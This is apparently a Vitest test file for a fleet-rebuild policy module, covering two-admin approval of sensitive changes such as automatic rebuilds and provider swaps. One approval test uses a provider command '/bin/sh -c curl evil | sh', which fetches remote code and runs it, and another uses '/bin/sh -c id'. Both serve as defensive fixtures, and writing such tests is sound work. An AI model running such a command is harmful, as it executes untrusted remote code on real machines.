import { describe, expect, it } from "vitest";
import { autoRebuildApproval, canonicalJson, describePolicyChange, sameConfig, splitPolicyChange, type PolicyFields } from "./policy-change";

const cmd = { kind: "command", argv: ["/usr/local/bin/rebuild", "{hostname}"], timeoutSeconds: 60 };
const hook = { kind: "webhook", url: "https://ci.example.com/hook", format: "generic" };
const current: Required<PolicyFields> = { approvalsRequired: 2, autoRebuild: false, batchSize: 2, canary: true, requestTtlHours: 72, verifyMinutes: 30, rebuildAttempts: 4, provider: cmd, reportingIntervalMinutes: 180, snowflakeThreshold: null, collectContent: true };

describe("splitPolicyChange", () => {
  it("turns config content collection off or on at once, and describes it", () => {
    expect(splitPolicyChange(current, { collectContent: false })).toEqual({ immediate: { collectContent: false }, sensitive: null, reasons: [] });
    expect(describePolicyChange({ collectContent: false })).toEqual(["Collect config file content: off"]);
  });
  it("applies what only narrows or tunes the rollout at once", () => {
    const s = splitPolicyChange(current, { batchSize: 5, canary: false, requestTtlHours: 24, verifyMinutes: 10, approvalsRequired: 3, autoRebuild: false, provider: null });
    expect(s).toEqual({ immediate: { batchSize: 5, canary: false, requestTtlHours: 24, verifyMinutes: 10, approvalsRequired: 3, provider: null }, sensitive: null, reasons: [] });
  });

  it("applies the reporting interval and the snowflake threshold at once: they change what is shown, not what runs", () => {
    const s = splitPolicyChange(current, { reportingIntervalMinutes: 60, snowflakeThreshold: 4 });
    expect(s).toEqual({ immediate: { reportingIntervalMinutes: 60, snowflakeThreshold: 4 }, sensitive: null, reasons: [] });
    expect(splitPolicyChange<PolicyFields>({ ...current, snowflakeThreshold: 4 }, { snowflakeThreshold: null }).immediate).toEqual({ snowflakeThreshold: null });
    expect(describePolicyChange({ reportingIntervalMinutes: 60, snowflakeThreshold: null })).toEqual(["Not reporting after: 60 min", "Snowflake threshold: product default"]);
  });

  it("holds a new provider, automatic rebuilds and fewer approvals for a second admin", () => {
    const s = splitPolicyChange(current, { provider: hook, batchSize: 4 });
    expect(s.immediate).toEqual({ batchSize: 4 });
    expect(s.sensitive).toEqual({ provider: hook });
    expect(s.reasons).toEqual(["it changes the rebuild provider"]);
    expect(splitPolicyChange(current, { approvalsRequired: 1 }).reasons).toEqual(["it lowers the approvals a rebuild needs from 2 to 1"]);
  });

  it("carries the provider that would run unattended with automatic rebuilds", () => {
    expect(splitPolicyChange(current, { autoRebuild: true }).sensitive).toEqual({ autoRebuild: true, provider: cmd });
    expect(splitPolicyChange(current, { autoRebuild: true, provider: hook }).sensitive).toEqual({ autoRebuild: true, provider: hook });
    expect(splitPolicyChange({ ...current, provider: null }, { autoRebuild: true }).sensitive).toEqual({ autoRebuild: true, provider: null });
  });

  it("treats restating the policy in effect as no change", () => {
    const same = splitPolicyChange({ ...current, autoRebuild: true }, { provider: { timeoutSeconds: 60, argv: cmd.argv, kind: "command" }, autoRebuild: true, approvalsRequired: 2, batchSize: 2 });
    expect(same).toEqual({ immediate: {}, sensitive: null, reasons: [] });
  });
});

describe("config comparison", () => {
  it("ignores key order and undefined keys", () => {
    expect(canonicalJson({ b: 1, a: [{ d: 2, c: 3 }], x: undefined })).toBe('{"a":[{"c":3,"d":2}],"b":1}');
    expect(sameConfig({ a: 1, b: 2 }, { b: 2, a: 1 })).toBe(true);
    expect(sameConfig(cmd, { ...cmd, argv: ["/bin/sh", "-c", "id"] })).toBe(false);
    expect(sameConfig(null, undefined)).toBe(true);
  });
});

describe("describePolicyChange", () => {
  it("says what would change, one line per field", () => {
    expect(describePolicyChange({ autoRebuild: true, provider: cmd, approvalsRequired: 1 })).toEqual([
      "Rebuild provider: command (/usr/local/bin/rebuild {hostname})",
      "Automatic rebuilds: on",
      "Approvals required: 1",
    ]);
    expect(describePolicyChange({ provider: null })).toEqual(["Rebuild provider: none"]);
  });
});

describe("autoRebuildApproval", () => {
  const fleet = { autoRebuild: true, provider: cmd };
  const approved = (change: PolicyFields) => ({ change, requestedBy: "ada", decidedBy: "grace" });
  const self = (change: PolicyFields) => ({ change, requestedBy: "ada", decidedBy: "ada" });

  it("passes when a second admin approved automatic rebuilds with this provider", () => {
    expect(autoRebuildApproval(fleet, [approved({ autoRebuild: true, provider: cmd })])).toEqual({ ok: true });
    expect(autoRebuildApproval(fleet, [self({ batchSize: 3 }), approved({ autoRebuild: true, provider: { ...cmd } })])).toEqual({ ok: true });
  });

  it("refuses a fleet configured without an approval", () => {
    expect(autoRebuildApproval(fleet, [])).toMatchObject({ ok: false, reason: expect.stringContaining("automatic rebuilds were not turned on") });
    expect(autoRebuildApproval(fleet, [self({ autoRebuild: true, provider: cmd })])).toMatchObject({ ok: false });
  });

  it("refuses when the provider in effect is not the approved one", () => {
    const swapped = { ...fleet, provider: { kind: "command", argv: ["/bin/sh", "-c", "curl evil | sh"] } };
    expect(autoRebuildApproval(swapped, [approved({ autoRebuild: true, provider: cmd })])).toMatchObject({ ok: false, reason: expect.stringContaining("provider in effect") });
    expect(autoRebuildApproval(fleet, [self({ provider: cmd }), approved({ autoRebuild: true, provider: cmd })])).toMatchObject({ ok: false });
  });

  it("refuses after automatic rebuilds were turned off and back on without approval", () => {
    expect(autoRebuildApproval(fleet, [self({ autoRebuild: false }), approved({ autoRebuild: true, provider: cmd })])).toMatchObject({ ok: false });
  });
});
